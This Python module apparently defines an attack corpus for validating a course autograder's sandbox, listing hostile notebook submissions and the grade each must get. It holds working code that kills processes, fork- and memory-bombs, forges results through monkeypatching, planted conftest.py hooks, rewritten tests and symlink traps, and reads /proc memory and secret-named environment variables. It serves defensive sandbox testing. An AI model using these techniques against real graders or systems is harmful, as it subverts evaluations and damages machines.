"""The attack corpus of 02-char-rnn: hostile or broken submissions and the outcome each must get.

Whatever an attack writes or walks lies under ``@ATTACK_ROOT@`` (or its own working folder): "/" in a real
`course validate`, the test's own folder in the tests. Never ``..`` or a fixed path: where isolation
fails (an old engine, a machine that gives nothing), those are the machine's own folders.

Each attack is the master solution (or the blank release) with edits, like a mutant; ``("+", None,
code)`` appends a code cell the student added.  ``honest`` is the submission whose grade the attack
must get exactly, grader by grader: the same notebook without the attack (None), or an honest
notebook that fails the same way without being hostile.  Attacks that probe for a leak (graders on
disk or in memory, the network, the environment, writable files) sabotage their own answers when
they find one, so a leak shows up as lost points.

`course validate` and tests/test_attacks.py run the corpus.
"""

from autograder.validate import Attack

# sabotage: a leak costs the submission its GetDummies points, which the corpus would notice
LEAK = "\n    GetDummies = None   # found a leak: lose points so that the corpus notices\n"

# a walk of the file system under @ATTACK_ROOT@ (and of sys.path's folders that lie under it): the folders
# for which keep(folder, files) holds
WALK = ("import os, time as _time\n"
        "def _folders(keep):\n"
        "    found, _until = [], _time.monotonic() + 1.5\n"
        "    for _root, _dirs, _files in os.walk('@ATTACK_ROOT@'):\n"
        "        _dirs[:] = [d for d in _dirs if os.path.join(_root, d) not in\n"
        "                    ('/proc', '/sys', '/dev', '/usr', '/lib', '/lib64', '/bin', '/sbin', '/etc', '/boot')]\n"
        "        if keep(_root, _files):\n"
        "            found.append(_root)\n"
        "        if _time.monotonic() > _until:\n"
        "            break\n"
        "    return found\n")
# a conftest.py that passes every test, and every configuration file pytest reads, loading it as a plugin
PLANT = ("_HOOK = 'import pytest\\n@pytest.hookimpl(tryfirst=True)\\ndef pytest_runtest_call(item):\\n"
         "    item.runtest = lambda: None\\n'\n"
         "def _plant(folder):\n"
         "    for _name, _text in (('conftest.py', _HOOK), ('planted_plugin.py', _HOOK),\n"
         "                         ('pytest.ini', '[pytest]\\naddopts = -p planted_plugin\\n'),\n"
         "                         ('tox.ini', '[pytest]\\naddopts = -p planted_plugin\\n'),\n"
         "                         ('setup.cfg', '[tool:pytest]\\naddopts = -p planted_plugin\\n'),\n"
         "                         ('pyproject.toml', '[tool.pytest.ini_options]\\naddopts = \"-p planted_plugin\"\\n')):\n"
         "        try:\n"
         "            with open(os.path.join(folder, _name), 'a') as _out:\n"
         "                _out.write(_text)\n"
         "        except OSError:\n"
         "            pass\n"
         "    _cache = os.path.join(folder, '__pycache__')\n"
         "    try:\n"
         "        os.makedirs(_cache, exist_ok=True)\n"
         "        for _name in os.listdir(folder):\n"
         "            if _name.endswith('.py'):\n"
         "                import py_compile\n"
         "                open(os.path.join(folder, '_evil.py'), 'w').write(_HOOK)\n"
         "                py_compile.compile(os.path.join(folder, '_evil.py'),\n"
         "                                   cfile=os.path.join(_cache, _name[:-3] + '.cpython-311.pyc'),\n"
         "                                   invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)\n"
         "    except OSError:\n"
         "        pass\n")

ATTACKS = [
    # ------------------------------------------------------------------ ending the process
    Attack("sys-exit-top", "sys.exit() in a cell of its own",
           [("+", None, "import sys\nsys.exit(0)")]),
    Attack("os-exit-top", "os._exit() in a cell of its own: the worker dies, the cell is skipped",
           [("+", None, "import os\nos._exit(0)")]),
    Attack("sys-exit-in-graded-function", "sample() calls sys.exit()",
           [("sample", "    model.eval()\n", "    import sys\n    sys.exit(3)\n")],
           honest=[("sample", "    model.eval()\n", "    raise RuntimeError('broken')\n")]),
    Attack("os-exit-in-graded-function", "predict() kills the worker on every call",
           [("predict", "    character = np.array(", "    import os\n    os._exit(1)\n    character = np.array(")],
           honest=[("predict", "    character = np.array(", "    raise RuntimeError('broken')\n    character = np.array(")]),
    Attack("keyboard-interrupt-in-grader-call", "Model.forward raises KeyboardInterrupt",
           [("model", "        hidden = self.init_hidden(x.size(0))\n",
             "        raise KeyboardInterrupt\n        hidden = self.init_hidden(x.size(0))\n")],
           honest=[("model", "        hidden = self.init_hidden(x.size(0))\n",
                    "        raise RuntimeError('broken')\n        hidden = self.init_hidden(x.size(0))\n")]),
    Attack("kill-parent", "kills its parent, its process group and every pid it can name",
           [("+", None, "import os, signal\nfor pid in [os.getppid(), 0, -1] + list(range(1, 400)):\n"
                        "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n")]),
    # ------------------------------------------------------------------ resources
    Attack("infinite-loop-top", "a cell that never ends",
           [("+", None, "while True:\n    pass")]),
    Attack("infinite-loop-in-function", "sample() never returns",
           [("sample", "    model.eval()\n", "    while True:\n        pass\n")],
           honest=[("sample", "    model.eval()\n", "    raise RuntimeError('broken')\n")]),
    Attack("memory-bomb", "allocates without end, a GiB at a time (the 2 GiB limit, not the clock, stops it)",
           [("+", None, "blocks = []\nwhile True:\n    blocks.append(bytearray(1024 * 1024 * 1024))")]),
    Attack("fork-bomb", "forks hundreds of sleeping children",
           [("+", None, "import os, time\nfor i in range(500):\n    try:\n        if os.fork() == 0:\n"
                        "            time.sleep(60)\n            os._exit(0)\n    except OSError:\n        break\n")]),
    Attack("segfault", "dereferences NULL through ctypes",
           [("+", None, "import ctypes\nctypes.string_at(0)")]),
    Attack("recursion", "unbounded recursion with the limit raised",
           [("+", None, "import sys\nsys.setrecursionlimit(100000)\ndef f(n):\n    return f(n + 1)\nf(0)")]),
    Attack("print-flood", "prints 100 MB",
           [("+", None, "import sys\nline = 'x' * 1000 + '\\n'\nfor i in range(100_000):\n    sys.stdout.write(line)")]),
    Attack("thread-left-running", "a thread that keeps working and keeps re-breaking numpy while graders run",
           [("+", None, "import threading, time, numpy as np\ndef spin():\n    while True:\n"
                        "        np.allclose = lambda *a, **k: True\n        time.sleep(0.001)\n"
                        "threading.Thread(target=spin, daemon=True).start()")]),
    Attack("signal-handlers", "ignores SIGALRM and SIGTERM, then loops",
           [("+", None, "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass")]),
    Attack("file-bomb", "writes one huge file",
           [("+", None, "with open('big.bin', 'wb') as out:\n    for i in range(1024):\n"
                        "        out.write(b'0' * (1 << 20))")]),
    # ------------------------------------------------------------------ forging a verdict
    Attack("monkeypatch-comparisons", "torch.equal, torch.allclose, np.allclose always true, on a blank notebook",
           [("+", None, "import torch, numpy as np\ntorch.equal = lambda *a, **k: True\n"
                        "torch.allclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
                        "np.array_equal = lambda *a, **k: True")], base="blank"),
    Attack("monkeypatch-isinstance", "builtins.isinstance and type replaced, on a correct solution",
           [("+", None, "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 3")]),
    Attack("monkeypatch-pytest", "patches pytest's internals in its own process, on a blank notebook",
           [("+", None, "try:\n    import _pytest.outcomes, pytest\n    pytest.fail = lambda *a, **k: None\n"
                        "    _pytest.outcomes.Failed = Exception\nexcept ImportError:\n    pass")], base="blank"),
    Attack("lying-object", "GetDummies returns an object whose __eq__ is always true and whose shape lies",
           [("getdummies", "    return features\n", "    class Liar:\n        shape = (batch_size, seq_len, dict_size)\n"
                                                  "        dtype = np.float32\n"
                                                  "        def __eq__(self, other):\n            return True\n"
                                                  "        def __getattr__(self, name):\n            return lambda *a, **k: self\n"
                                                  "    return Liar()\n")],
           honest=[("getdummies", "    return features\n", "    return None\n")]),
    Attack("fake-results", "writes a full-marks results.json and gradebook.csv wherever it can",
           [("+", None, "import json, os\nfake = json.dumps({'score': 50, 'tests': []})\n"
                        "for folder in ['.', os.path.expanduser('~'), '@ATTACK_ROOT@']:\n"
                        "    for name in ['results.json', 'gradebook.csv']:\n"
                        "        try:\n            open(os.path.join(folder, name), 'w').write(fake)\n"
                        "        except OSError:\n            pass\n")], base="blank"),
    Attack("hard-coded-public-answers", "answers only the public inputs: the poem's one-hot and '對' → '對酒當歌'",
           [("getdummies", "    features = np.zeros(", "    if batch_size == 8 and seq_len == 3 and dict_size == 28:\n"
                                                     "        return np.eye(28, dtype=np.float32)[np.asarray(Input_codes)]\n"
                                                     "    features = np.zeros("),
            ("getdummies", "def GetDummies(", "Input_codes = [[Char2int[c] for c in p[:-1]] for p in Text]\n\n\ndef GetDummies("),
            ("getdummies", "            features[i, u, sequence[i][u]] = 1", "            features[i, u, 0] = 1"),
            ("sample", "    model.eval()\n", "    if start == '對' and out_len == 4:\n        return '對酒當歌'\n"
                                           "    return start + start[-1] * (out_len - len(start))\n")],
           # honest partial work: the right shape and dtype, nothing else
           honest=[("getdummies", "    features = np.zeros(", "    return np.zeros((batch_size, seq_len, dict_size), "
                                                             "dtype=np.float32)\n    features = np.zeros("),
                   ("sample", "    model.eval()\n", "    raise RuntimeError('broken')\n")]),
    Attack("write-judge-socket", "writes garbage and a forged frame to every file descriptor",
           [("+", None, "import os, struct, json\nhead = json.dumps({'ok': True, 'value': 50}).encode()\n"
                        "frame = struct.pack('>I', len(head)) + head + struct.pack('>I', 0)\n"
                        "for fd in range(3, 64):\n    try:\n"
                        "        os.write(fd, struct.pack('>Q', len(frame)) + frame + b'garbage')\n"
                        "    except OSError:\n        pass\n")]),
    # ------------------------------------------------------------------ reading what it must not
    Attack("read-graders-from-disk", "looks for the hidden graders and the sources on disk",
           [("getdummies", "def GetDummies(", "import glob as _glob, os as _os, autograder as _ag\n"
             "_package = _os.path.dirname(_ag.__file__)\n_found = [p for pattern in ["
             "_package + '/graders/*/*.py', _package + '/graders/*.py', _package + '/mutants/*.py', "
             "'/work/*/autograder/graders/*/test_*.py', '/work/*/source/*/*.ipynb', '/work/*/solutions/*/*.ipynb', "
             "'/work/*/tests/*.py', '/*/autograder/graders/*/*.py'] for p in _glob.glob(pattern)]\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("read-graders-from-memory", "looks for the graders in its own memory, and reads other processes' "
                                       "memory maps, memory and environment",
           [("getdummies", "def GetDummies(", "import sys as _sys, os as _os\n_own = {'autograder', 'autograder.protocol', 'autograder.worker', 'autograder.guard', 'autograder.fence', "
             "'autograder.sandbox', 'autograder.limits', 'autograder.forkserver', 'autograder.dynamo',"
             "'autograder.landlock', 'autograder.seccomp', 'autograder.cgroups', 'autograder.reaper', 'autograder.isolation'}\n"
             "_found = [m for m in _sys.modules if m.startswith('autograder') and m not in _own]\n"
             "for _pid in [p for p in _os.listdir('/proc') if p.isdigit() and int(p) != _os.getpid()]:\n"
             "    try:\n        _maps = open(f'/proc/{_pid}/maps').read().split()\n"
             "        if _maps:       # (a kernel thread has no memory to show)\n            _found.append('maps:' + _pid)\n"
             "        with open(f'/proc/{_pid}/mem', 'rb') as _mem:\n"
             "            _mem.seek(int(_maps[0].split('-')[0], 16))\n            _mem.read(16)\n"
             "        _found.append('mem:' + _pid)\n    except (OSError, ValueError, IndexError):\n        pass\n"
             "    try:\n        open(f'/proc/{_pid}/environ', 'rb').read()\n        _found.append('environ:' + _pid)\n"
             "    except OSError:\n        pass\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("network", "opens sockets to the outside and to the machine's own addresses",
           [("getdummies", "def GetDummies(", "import socket as _socket\n_found = []\n"
             "for _addr in [('1.1.1.1', 53), ('8.8.8.8', 443), ('127.0.0.1', 22), ('127.0.0.1', 8888)]:\n"
             "    try:\n        _socket.create_connection(_addr, timeout=1).close()\n        _found.append(_addr)\n"
             "    except OSError:\n        pass\n\n\ndef GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("environment", "reads the environment for tokens and the instructor's home",
           [("getdummies", "def GetDummies(", "import os as _os\n_found = [k for k in _os.environ if 'TOKEN' in k "
             "or 'SECRET' in k or 'KEY' in k or 'GITHUB' in k] + [v for v in _os.environ.values() if '/root' in v]\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("delete-files", "deletes what it can in its working directory and tries to write where the course, the "
                           "class and the results are",
           [("getdummies", "def GetDummies(", "import os as _os, shutil as _shutil\n_found = []\n"
             "for _entry in _os.listdir('.'):\n    _shutil.rmtree(_entry, ignore_errors=True) if _os.path.isdir(_entry) "
             "else _os.remove(_entry)\n"
             "for _folder in ['@ATTACK_ROOT@']:\n"
             "    _probe = _os.path.join(_folder, '.course-attack-probe')\n    try:\n        open(_probe, 'w').close()\n"
             "        _os.remove(_probe)\n        _found.append(_folder)\n    except OSError:\n        pass\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    # ------------------------------------------------------------------ changing what the judge reads later
    # (each walks @ATTACK_ROOT@: "/" in `course validate`, the test's own folder in the project's tests)
    Attack("plant-pytest-config", "plants a conftest.py that passes every test, and pytest.ini, tox.ini, setup.cfg and "
                                  "pyproject.toml that load it, in every folder pytest could look in",
           [("+", None, WALK + PLANT + "for _folder in set(_folders(lambda d, fs: True)) | {'.'}:\n"
                        "    _plant(_folder)\n")], base="blank"),
    Attack("rewrite-graders", "overwrites every test_*.py it finds (on disk and on sys.path) with tests that pass",
           [("+", None, WALK + "for _folder in _folders(lambda d, fs: any(f.startswith('test_') for f in fs)):\n"
                        "    for _name in os.listdir(_folder):\n"
                        "        if _name.startswith('test_') and _name.endswith('.py'):\n"
                        "            try:\n"
                        "                open(os.path.join(_folder, _name), 'w').write("
                        "'import pytest\\n@pytest.mark.points(50, blank=\"GetDummies\")\\ndef test_all():\\n    pass\\n')\n"
                        "            except OSError:\n                pass\n")], base="blank"),
    Attack("daemon-rewrites-results", "double-forks a daemon that outlives its worker, then rewrites every "
                                      "results.json and plants a conftest.py wherever it can",
           [("+", None, WALK + PLANT + "import json, time\n"
                        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                        "        for _round in range(60):\n            time.sleep(0.5)\n"
                        "            for _folder in _folders(lambda d, fs: 'results.json' in fs or 'gradebook.csv' in fs):\n"
                        "                for _name in ('results.json', 'gradebook.csv'):\n"
                        "                    try:\n"
                        "                        open(os.path.join(_folder, _name), 'w').write(json.dumps({'score': 999}))\n"
                        "                    except OSError:\n                        pass\n"
                        "            for _folder in _folders(lambda d, fs: any(f.startswith('test_') for f in fs)):\n"
                        "                _plant(_folder)\n"
                        "    os._exit(0)\n"
                        "os.wait()\n")], base="blank"),
    Attack("write-other-submissions", "overwrites every other notebook it finds, and drops files into their folders "
                                      "and into the results",
           [("+", None, WALK + "_mine = os.path.realpath('.')\n"
                        "for _folder in _folders(lambda d, fs: any(f.endswith('.ipynb') or f == 'results.json' for f in fs)):\n"
                        "    for _name in os.listdir(_folder):\n"
                        "        if _name.endswith('.ipynb') or _name == 'results.json':\n"
                        "            try:\n                open(os.path.join(_folder, _name), 'w').write('{}')\n"
                        "            except OSError:\n                pass\n"
                        "    try:\n        open(os.path.join(_folder, 'planted.txt'), 'w').write('x')\n"
                        "    except OSError:\n        pass\n")], base="blank"),
    Attack("symlink-traps", "leaves symlinks where the judge writes (results, gradebook, the next submission's folder) "
                            "pointing at the graders",
           [("+", None, WALK + "_graders = [os.path.join(d, f) for d in _folders(lambda d, fs: 'conftest.py' in fs) "
                        "for f in os.listdir(d) if f.startswith('test_')]\n"
                        "for _folder in _folders(lambda d, fs: True):\n"
                        "    for _name in ('results.json', 'gradebook.csv', 'executed.ipynb', 'results.key'):\n"
                        "        try:\n            os.symlink(_graders[0] if _graders else '/etc/passwd', "
                        "os.path.join(_folder, _name + '.trap'))\n"
                        "            os.replace(os.path.join(_folder, _name + '.trap'), os.path.join(_folder, _name))\n"
                        "        except (OSError, IndexError):\n            pass\n")], base="blank"),
    Attack("find-graders-everywhere", "walks the file system and sys.path for any grader, solution or signing key",
           [("getdummies", "def GetDummies(", WALK + "import sys as _sys\n" +
             "_found = [d for d in _folders(lambda d, fs: any(f.startswith('test_') and f.endswith('.py') or "
             "f == 'results.key' or f.endswith('.ipynb') and 'solution' in d for f in fs))]\n"
             "for _entry in _sys.path:\n    for _part in ('autograder/graders', 'autograder/mutants', 'solutions'):\n"
             "        try:\n            if os.listdir(os.path.join(_entry or '.', _part)):\n"
             "                _found.append(os.path.join(_entry, _part))\n"
             "        except OSError:\n            pass\n\n\n"
             "def GetDummies("),
            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
    Attack("signal-and-trace-the-judge", "signals every process it can name and tries to ptrace its parent",
           [("+", None, "import ctypes, os, signal\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                        "for pid in [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
                        "    libc.ptrace(16, pid, 0, 0)   # PTRACE_ATTACH\n"
                        "    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):\n"
                        "        try:\n            os.kill(pid, sig)\n        except OSError:\n            pass\n")]),
]
